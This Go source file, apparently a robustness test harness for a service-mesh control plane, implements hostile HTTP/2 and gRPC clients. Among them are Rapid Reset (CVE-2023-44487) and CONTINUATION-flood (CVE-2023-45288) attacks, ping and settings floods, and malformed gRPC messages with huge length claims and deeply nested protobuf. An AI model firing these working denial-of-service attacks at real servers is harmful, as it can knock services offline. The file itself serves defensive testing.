package hostileclients

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/encoding/protowire"

	"github.com/meshpilot/meshpilot/test/perf/wire"
)

// http2Client opens an HTTP/2 connection: the preface and empty settings.
func (a *attacker) http2Client(ctx context.Context, d door) (net.Conn, *http2.Framer, error) {
	c, err := a.inside(ctx, d, "h2")
	if err != nil {
		return nil, nil, err
	}
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		_ = c.Close()
		return nil, nil, err
	}
	f := http2.NewFramer(c, c)
	go func() { _, _ = io.Copy(io.Discard, c) }() // else both sides would block
	return c, f, f.WriteSettings()
}

func fields(list ...string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for i := 0; i < len(list); i += 2 {
		_ = e.WriteField(hpack.HeaderField{Name: list[i], Value: list[i+1]})
	}
	return b.Bytes()
}

var request = fields(":method", "POST", ":scheme", "http", ":path", wire.SotWMethod,
	//nolint:gochecknoglobals // a constant
	":authority", "x", "content-type", "application/grpc", "te", "trailers")

// rapidReset opens requests and resets them at once (CVE-2023-44487).
func rapidReset(ctx context.Context, a *attacker, _ *rand.Rand, d door) error {
	c, f, err := a.http2Client(ctx, d)
	if err != nil {
		return err
	}
	defer c.Close()
	for id := uint32(1); id < 4000 && ctx.Err() == nil; id += 2 {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: request,
			EndHeaders: true}); err != nil {
			return err
		}
		if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return nil
}

// continuation sends header frames without end (CVE-2023-45288).
func continuation(ctx context.Context, a *attacker, r *rand.Rand, d door) error {
	c, f, err := a.http2Client(ctx, d)
	if err != nil {
		return err
	}
	defer c.Close()
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request}); err != nil {
		return err
	}
	more := fields("x-a", string(bytes.Repeat([]byte{'a'}, 8<<10)), fmt.Sprint("x-", r.IntN(100)), "b")
	for range 500 {
		if ctx.Err() != nil {
			return nil
		}
		if err := f.WriteContinuation(1, false, more); err != nil {
			return err
		}
	}
	return nil
}

func pings(ctx context.Context, a *attacker, r *rand.Rand, d door) error {
	c, f, err := a.http2Client(ctx, d)
	if err != nil {
		return err
	}
	defer c.Close()
	for range 2000 {
		if ctx.Err() != nil {
			return nil
		}
		var data [8]byte
		binary.BigEndian.PutUint64(data[:], r.Uint64())
		if err := f.WritePing(false, data); err != nil {
			return err
		}
		if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: r.Uint32() >> 1}); err != nil {
			return err
		}
	}
	return nil
}

// deepNode is a DiscoveryRequest whose node metadata is nested deeper than decoders follow.
var deepNode = func() []byte { //nolint:gochecknoglobals // a constant
	inner := []byte{}
	field := func(number protowire.Number, content []byte) []byte {
		return protowire.AppendBytes(protowire.AppendTag(nil, number, protowire.BytesType), content)
	}
	for range 3000 { // a Struct in a Value in an entry of a Struct
		inner = field(1, append(field(1, []byte("a")), field(2, field(5, inner))...))
	}
	return field(2, field(3, inner))
}()

// grpcNonsense calls the services of all ports with malformed messages, and with headers that claim
// 4 GiB.
func grpcNonsense(ctx context.Context, a *attacker, r *rand.Rand, d door) error {
	c, f, err := a.http2Client(ctx, d)
	if err != nil {
		return err
	}
	defer c.Close()
	methods := []string{
		wire.SotWMethod, wire.DeltaMethod, certificateMethod,
		"/envoy.service.secret.v3.SecretDiscoveryService/StreamSecrets",
		"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", "/no.Such/Method",
	}
	for id := uint32(1); id < 40; id += 2 {
		head := fields(":method", "POST", ":scheme", "http", ":path", methods[r.IntN(len(methods))],
			":authority", "x", "content-type", "application/grpc", "te", "trailers",
			"authorization", "Bearer .bnVsbM.", "grpc-timeout", "99999999H")
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true}); err != nil {
			return err
		}
		message := random(r, 5+r.IntN(8<<10))
		message[0] = byte(r.IntN(2))
		switch r.IntN(3) {
		case 0:
			binary.BigEndian.PutUint32(message[1:], uint32(len(message)-5))
		case 1:
			binary.BigEndian.PutUint32(message[1:], 0xfffffff0)
		default: // what can be read, down to a depth
			message = append([]byte{0, 0, 0, 0, 0}, deepNode...)
			binary.BigEndian.PutUint32(message[1:], uint32(len(deepNode)))
		}
		for len(message) > 0 {
			n := min(len(message), 16<<10) // the largest frame
			if err := f.WriteData(id, n == len(message) && r.IntN(2) == 0, message[:n]); err != nil {
				return err
			}
			message = message[n:]
		}
	}
	time.Sleep(20 * time.Millisecond) // not a wait: some of it may be answered
	return nil
}
